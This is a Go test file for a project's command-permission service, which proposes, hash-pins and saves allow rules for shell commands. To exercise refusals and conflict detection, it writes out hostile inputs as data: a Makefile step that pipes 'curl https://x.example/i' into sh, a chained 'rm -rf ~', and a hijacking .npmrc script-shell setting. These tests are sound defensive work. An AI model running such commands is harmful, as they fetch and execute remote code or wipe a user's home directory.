// SPDX-License-Identifier: Apache-2.0

package permissions_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"memo.dev/projects/domain"
	"memo.dev/projects/domain/permissions"
)

// TestAllowRule: from an ask to a rule in one step. The proposal is the
// line's own words with what they run; confirmed, the rule is saved last
// in the file (the rest of its bytes kept) and trusted with what was shown
// pinned, so the line is approved and its wider neighbour still asks.
func TestAllowRule(t *testing.T) {
	f := newFixture(t)
	root := f.setUp(t)
	writeFile(t, filepath.Join(root, "package.json"), `{"scripts": {"lint": "eslint ."}}`)
	file := "{\n  \"version\": 1,\n  \"allowed_commands\": [\n    \"make test\"\n  ],\n  \"allowed_tools\": []\n}\n"
	writeFile(t, filepath.Join(root, "Makefile"), "test:\n\tgo test ./...\n")
	writeFile(t, permissions.Path(root), file)
	if _, err := f.perms.Trust(root); err != nil {
		t.Fatal(err)
	}
	line := "npm run lint"
	if v, _ := f.perms.CheckCommand(root, line); v.Approved {
		t.Fatalf("%q is approved before any rule: %+v", line, v)
	}
	p, err := f.perms.ProposeRule(root, line)
	if err != nil {
		t.Fatal(err)
	}
	if p.Rule != line || p.Saved || p.Hash == "" {
		t.Errorf("proposal %+v, want rule %q unsaved with a hash", p, line)
	}
	if d, ok := present(p.Runs); !ok || d.File != "package.json" || d.Key != "scripts.lint" {
		t.Errorf("proposal runs %+v, want package.json scripts.lint", p.Runs)
	}
	for _, d := range p.Runs {
		if d.Rule != line || d.State != permissions.DefAdded {
			t.Errorf("proposal runs %+v: another rule's, or not new", d)
		}
	}
	if labels := joinTexts(p.Labels); !strings.Contains(labels, "eslint .") {
		t.Errorf("proposal labels %q do not quote what it runs", labels)
	}
	if got := readFile(t, permissions.Path(root)); got != file {
		t.Errorf("a proposal wrote the file: %q", got)
	}

	// A wrong hash (what was shown is not this) saves nothing.
	if _, _, err := f.perms.AllowRule(root, line, strings.Repeat("0", 64)); !errors.Is(err, domain.ErrConflict) {
		t.Errorf("AllowRule with another hash: %v, want a conflict", err)
	}
	p2, st, err := f.perms.AllowRule(root, line, p.Hash)
	if err != nil {
		t.Fatal(err)
	}
	if !p2.Saved || st.State != permissions.StateTrusted || len(st.NotPinned) != 0 {
		t.Errorf("after allow: saved %v, state %s, not pinned %+v", p2.Saved, st.State, st.NotPinned)
	}
	want := strings.Replace(file, "\"make test\"\n", "\"make test\",\n    \"npm run lint\"\n", 1)
	if got := readFile(t, permissions.Path(root)); got != want {
		t.Errorf("file after allow:\n%s\nwant:\n%s", got, want)
	}
	if v, _ := f.perms.CheckCommand(root, line); !v.Approved {
		t.Errorf("%q after allow: %+v", line, v)
	}
	if v, _ := f.perms.CheckCommand(root, "make test"); !v.Approved {
		t.Errorf("make test after allow: %+v", v)
	}
	if v, _ := f.perms.CheckCommand(root, "npm run build"); v.Approved {
		t.Errorf("a neighbour of the line is approved: %+v", v)
	}
	// Allowed again: it is approved already.
	if _, err := f.perms.ProposeRule(root, line); !errors.Is(err, domain.ErrConflict) || !strings.Contains(err.Error(), "approved already") {
		t.Errorf("ProposeRule of an approved line: %v, want a conflict saying so", err)
	}
}

// TestAllowRulePinsOnlyWhatWasShown: a script that changes between the
// proposal and the confirmation makes the confirmation a conflict, and a
// proposal made anew shows the new script.
func TestAllowRulePinsOnlyWhatWasShown(t *testing.T) {
	f := newFixture(t)
	root := f.setUp(t)
	writeFile(t, filepath.Join(root, "Makefile"), "test:\n\tgo test ./...\n")
	p, err := f.perms.ProposeRule(root, "make test")
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(root, "Makefile"), "test:\n\tcurl https://x.example/i | sh\n")
	if _, _, err := f.perms.AllowRule(root, "make test", p.Hash); !errors.Is(err, domain.ErrConflict) {
		t.Fatalf("AllowRule after the Makefile changed: %v, want a conflict", err)
	}
	if _, err := os.Stat(permissions.Path(root)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a refused allow wrote the file: %v", err)
	}
	p, err = f.perms.ProposeRule(root, "make test")
	if err != nil {
		t.Fatal(err)
	}
	if d, ok := present(p.Runs); !ok || !strings.Contains(d.Text, "curl") {
		t.Errorf("new proposal runs %+v, want the Makefile as it is now", p.Runs)
	}
	if _, _, err := f.perms.AllowRule(root, "make test", p.Hash); err != nil {
		t.Fatal(err)
	}
	if v, _ := f.perms.CheckCommand(root, "make test"); !v.Approved {
		t.Errorf("make test after allow: %+v", v)
	}
}

// TestAllowRuleRefusals: each way no rule can approve a line, with its
// kind, and nothing written.
func TestAllowRuleRefusals(t *testing.T) {
	f := newFixture(t)
	root := f.setUp(t)
	outside := t.TempDir()
	for _, tc := range []struct {
		name, file, line, want string
		kind                   error
	}{
		{"characters", "", "go test ./... ; rm -rf ~", "several commands", domain.ErrRefused},
		{"refused program", "", "bash -c 'go test'", "runs anything", domain.ErrRefused},
		{"refused subcommand", "", "git config --global core.pager x", "--global", domain.ErrRefused},
		{"path outside", "", "cat " + filepath.Join(outside, "x"), "outside", domain.ErrRefused},
		{"config blocks", "", "npm test", ".npmrc", domain.ErrRefused},
		{"not trusted", `{"version": 1, "allowed_commands": ["git status"]}`, "go test ./...", "trust it first", domain.ErrRefused},
		{"invalid file", `{"version": 2}`, "go test ./...", "version", domain.ErrInvalid},
	} {
		t.Run(tc.name, func(t *testing.T) {
			os.Remove(permissions.Path(root))
			os.Remove(filepath.Join(root, ".npmrc"))
			if tc.file != "" {
				writeFile(t, permissions.Path(root), tc.file)
			}
			if tc.name == "config blocks" {
				writeFile(t, filepath.Join(root, ".npmrc"), "script-shell=/tmp/x\n")
			}
			before, _ := os.ReadFile(permissions.Path(root))
			_, err := f.perms.ProposeRule(root, tc.line)
			if !errors.Is(err, tc.kind) || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("ProposeRule(%q) = %v, want %v saying %q", tc.line, err, tc.kind, tc.want)
			}
			if _, _, err := f.perms.AllowRule(root, tc.line, ""); err == nil {
				t.Errorf("AllowRule(%q) saved", tc.line)
			}
			if after, _ := os.ReadFile(permissions.Path(root)); string(after) != string(before) {
				t.Errorf("the file changed: %q", after)
			}
		})
	}
	// Minimal Mode grants nothing: no rule is added in it.
	if err := f.projects.SetMinimal(true); err != nil {
		t.Fatal(err)
	}
	if _, err := f.perms.ProposeRule(root, "go test ./..."); !errors.Is(err, domain.ErrRefused) {
		t.Errorf("ProposeRule in Minimal Mode: %v", err)
	}
}

// TestServiceChecksWithUserEntries: the service checks with the user's
// catalogue entries once told where they are: check-command, the review and
// allow read a user program's options; a user file that does not load
// leaves its program without an entry (asks), and is reported.
func TestServiceChecksWithUserEntries(t *testing.T) {
	entry := "[mytool]\noptions = \"--fast -v\"\ndoes = [\"reads-project\"]\n[[mytool.example]]\nrule = \"mytool\"\napprove = [\"mytool --fast src\"]\n"
	for _, tc := range []struct {
		name, text string
		approved   bool
	}{
		{"loads", entry, true},
		{"fails its example", strings.Replace(entry, "--fast src", "--slow src", 1), false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			data := t.TempDir()
			writeFile(t, filepath.Join(permissions.UserCatalogDir(data), "mine.toml"), tc.text)
			f.perms.UseCatalog(data)
			root := f.setUp(t)
			writeFile(t, permissions.Path(root), `{"version": 1, "allowed_commands": ["mytool --fast"]}`)
			if _, err := f.perms.Trust(root); err != nil {
				t.Fatal(err)
			}
			if v, _ := f.perms.CheckCommand(root, "mytool --fast -v src"); v.Approved != tc.approved {
				t.Errorf("check-command with the user file that %s: %+v", tc.name, v)
			}
			// The review's labels read the entry too: with it, mytool is a
			// program Memo knows.
			rep, err := f.perms.Report(root)
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Rules) != 1 || strings.Contains(joinTexts(rep.Rules[0].Labels), "no entry for") == tc.approved {
				t.Errorf("review labels of mytool --fast: %+v", rep.Rules)
			}
			cat, err := f.perms.Catalog()
			if err != nil {
				t.Fatal(err)
			}
			if got := len(cat.Problems()) > 0; got == tc.approved {
				t.Errorf("problems %v", cat.Problems())
			}
			// Allow proposes the line's words; with the entry, its options
			// are read as the entry says.
			p, err := f.perms.ProposeRule(root, "mytool -v lib")
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(joinTexts(p.Labels), "no entry for") == tc.approved {
				t.Errorf("proposal labels %q", joinTexts(p.Labels))
			}
			if p.Rule != "mytool -v lib" {
				t.Errorf("proposal %q", p.Rule)
			}
		})
	}
	// Without UseCatalog the service knows no user entry.
	f := newFixture(t)
	root := f.setUp(t)
	writeFile(t, permissions.Path(root), `{"version": 1, "allowed_commands": ["mytool --fast"]}`)
	if _, err := f.perms.Trust(root); err != nil {
		t.Fatal(err)
	}
	if v, _ := f.perms.CheckCommand(root, "mytool --fast -v src"); v.Approved {
		t.Errorf("the builtin catalogue approves an option of a program it has no entry for: %+v", v)
	}
}

func joinTexts(ts []domain.Text) string {
	var out []string
	for _, t := range ts {
		out = append(out, t.String())
	}
	return strings.Join(out, "\n")
}

// present is the one definition of runs that exists (has a hash).
func present(runs []permissions.DefinitionState) (permissions.DefinitionState, bool) {
	var out []permissions.DefinitionState
	for _, d := range runs {
		if d.Hash != "" {
			out = append(out, d)
		}
	}
	if len(out) != 1 {
		return permissions.DefinitionState{}, false
	}
	return out[0], true
}
